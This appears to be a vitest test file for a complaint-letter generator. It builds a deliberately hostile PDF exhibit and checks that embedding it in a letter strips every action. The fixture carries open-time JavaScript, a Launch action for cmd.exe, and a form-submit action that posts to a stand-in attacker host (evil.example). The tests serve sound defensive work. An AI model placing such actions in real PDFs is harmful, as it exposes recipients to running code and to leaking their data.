import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRef, PDFStream, PDFString, StandardFonts, type PDFObject } from "pdf-lib";
import { describe, expect, it } from "vitest";
import { ojkViolationLetter } from "./ojk";
import { OJK_VIOLATION_FIELDS, type ComplaintFields } from "./ojk";
import { removeActions } from "./exhibit-pdf";
import { renderLetterPdf } from "./pdf";
import { pdfText } from "@/lib/testing/pdf-text";

/**
 * An exhibit built to run things: document JavaScript in /Names, a JavaScript /OpenAction and
 * document /AA, a page /AA, links with JavaScript, Launch and URI actions, a submit button, and
 * a text field whose widget and field carry keystroke and validation scripts, with a visible value.
 */
async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([400, 400]);
  page.drawText("EXHIBIT CONTENT 42", { x: 40, y: 340, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  const { context } = doc;
  const js = (code: string) => context.register(context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(code) }));

  const font = context.register(context.obj({ Type: "Font", Subtype: "Type1", BaseFont: "Helvetica" }));
  const fieldLook = context.register(
    context.stream("BT /Helv 12 Tf 2 6 Td (FIELD VALUE 7) Tj ET", {
      Type: "XObject",
      Subtype: "Form",
      BBox: [0, 0, 150, 24],
      Resources: { Font: { Helv: font } },
    }),
  );
  const field = context.register(context.obj({ FT: "Tx", T: PDFString.of("name"), V: PDFString.of("FIELD VALUE 7"), AA: { V: js("app.alert('validate')") } }));
  const widget = context.register(
    context.obj({
      Type: "Annot",
      Subtype: "Widget",
      Rect: [40, 200, 190, 224],
      F: 4,
      Parent: field,
      AP: { N: fieldLook },
      AA: { K: js("app.alert('keystroke')"), Fo: js("app.alert('focus')") },
    }),
  );
  (context.lookup(field) as PDFDict).set(PDFName.of("Kids"), context.obj([widget]));
  const submit = context.register(
    context.obj({
      Type: "Annot",
      Subtype: "Widget",
      FT: "Btn",
      Ff: 65536,
      T: PDFString.of("send"),
      Rect: [40, 150, 120, 170],
      A: { S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://evil.example/collect") } },
    }),
  );
  const links = [
    context.obj({ Type: "Annot", Subtype: "Link", Rect: [40, 330, 200, 360], A: js("app.launchURL('https://evil.example')") }),
    context.obj({ Type: "Annot", Subtype: "Link", Rect: [40, 300, 200, 320], A: { S: "Launch", F: PDFString.of("cmd.exe") } }),
    context.obj({ Type: "Annot", Subtype: "Link", Rect: [40, 270, 200, 290], A: { S: "URI", URI: PDFString.of("https://evil.example/pay") } }),
    context.obj({ Type: "Annot", Subtype: "Link", Rect: [40, 240, 200, 260], A: { S: "ImportData", F: PDFString.of("data.fdf") } }),
  ].map((link) => context.register(link));
  page.node.set(PDFName.of("Annots"), context.obj([...links, widget, submit]));
  page.node.set(PDFName.of("AA"), context.obj({ O: js("app.alert('page open')"), C: { S: "ResetForm" } }));

  const catalog = doc.catalog;
  catalog.set(PDFName.of("OpenAction"), js("app.alert('document open')"));
  catalog.set(PDFName.of("AA"), context.obj({ WC: js("app.alert('will close')") }));
  catalog.set(PDFName.of("Names"), context.obj({ JavaScript: { Names: [PDFString.of("init"), js("app.alert('names')")] } }));
  catalog.set(PDFName.of("AcroForm"), context.obj({ Fields: [field, submit], XFA: PDFString.of("<xdp/>") }));
  return doc.save();
}

const ACTION_KEYS = ["AA", "OpenAction", "JavaScript", "JS"];

/** Every dictionary in the file, indirect or nested, with where it was found. */
function everyDict(doc: PDFDocument): PDFDict[] {
  const found: PDFDict[] = [];
  const visit = (object: PDFObject | undefined) => {
    if (object instanceof PDFStream) return visit(object.dict);
    if (object instanceof PDFArray) return object.asArray().forEach((item) => item instanceof PDFRef || visit(item));
    if (!(object instanceof PDFDict)) return;
    found.push(object);
    for (const [, value] of object.entries()) if (!(value instanceof PDFRef)) visit(value);
  };
  for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object);
  return found;
}

function actionsIn(doc: PDFDocument): string[] {
  const found: string[] = [];
  for (const dict of everyDict(doc)) {
    const type = dict.lookupMaybe(PDFName.of("S"), PDFName)?.decodeText();
    if (type && ["JavaScript", "Launch", "URI", "SubmitForm", "ResetForm", "ImportData", "GoToR", "GoToE"].includes(type)) found.push(`action ${type}`);
    if (dict.lookupMaybe(PDFName.of("Type"), PDFName)?.decodeText() === "Action") found.push("an /Action");
    for (const key of ACTION_KEYS) if (dict.has(PDFName.of(key))) found.push(`/${key}`);
    if (dict.has(PDFName.of("A"))) found.push("/A");
    if (dict.lookupMaybe(PDFName.of("Subtype"), PDFName)?.decodeText() === "Widget" || dict.has(PDFName.of("FT"))) found.push("a form field");
    // pdf-lib gives the letter's own pages an empty list; an annotation in it would be found above too.
    if ((dict.lookupMaybe(PDFName.of("Annots"), PDFArray)?.size() ?? 0) > 0) found.push("/Annots");
    if (dict.has(PDFName.of("AcroForm"))) found.push("/AcroForm");
  }
  return found;
}

// Rendering letters takes seconds on a loaded machine: the time allowed is generous, never a measure.
describe("PDF exhibits in a letter", { timeout: 60_000 }, () => {
  const fields = Object.fromEntries(OJK_VIOLATION_FIELDS.map((f) => [f, ""])) as ComplaintFields;
  Object.assign(fields, { firm: "DanaKilat", complainantName: "Romel Tea" });

  it("the hostile test exhibit really carries its actions", async () => {
    const found = actionsIn(await PDFDocument.load(await hostilePdf()));
    expect(found).toEqual(
      expect.arrayContaining([
        "action JavaScript",
        "action Launch",
        "action URI",
        "action SubmitForm",
        "action ResetForm",
        "action ImportData",
        "/AA",
        "/OpenAction",
        "/JavaScript",
        "/Annots",
        "/AcroForm",
      ]),
    );
  });

  it("arrive as pages to read: no action, script, annotation or form field anywhere in the letter, the page and its field's value still shown", async () => {
    const letter = ojkViolationLetter(fields, { now: new Date("2026-11-24T03:00:00Z"), timeZone: "Asia/Jakarta", exhibits: 1 });
    const pdf = await renderLetterPdf(letter, [
      { heading: "Lampiran 1: PDF dari pengirim", lines: ["SHA-256: abc"], contentType: "application/pdf", bytes: await hostilePdf() },
    ]);

    const output = await PDFDocument.load(pdf);
    expect(actionsIn(output)).toEqual([]);
    expect(output.catalog.has(PDFName.of("Names"))).toBe(false);

    const { pages, text } = await pdfText(pdf);
    const letterPages = (await pdfText(await renderLetterPdf(letter, []))).pages;
    expect(pages).toBe(letterPages + 2); // the exhibit's heading page and its one page
    expect(text).toContain("EXHIBIT CONTENT 42");
    // The field's appearance is drawn into the page, so what the sender filled in stays visible.
    expect(text).toContain("FIELD VALUE 7");
  });

  it("the backstop removes every action and action slot from a whole document, wherever it sits", async () => {
    const doc = await PDFDocument.load(await hostilePdf());
    expect(removeActions(doc)).toBeGreaterThan(0);
    const reloaded = await PDFDocument.load(await doc.save());
    // Only what the backstop is not for is left: the annotations and the form, now without actions.
    expect(new Set(actionsIn(reloaded))).toEqual(new Set(["/Annots", "a form field", "/AcroForm"]));
  });
});
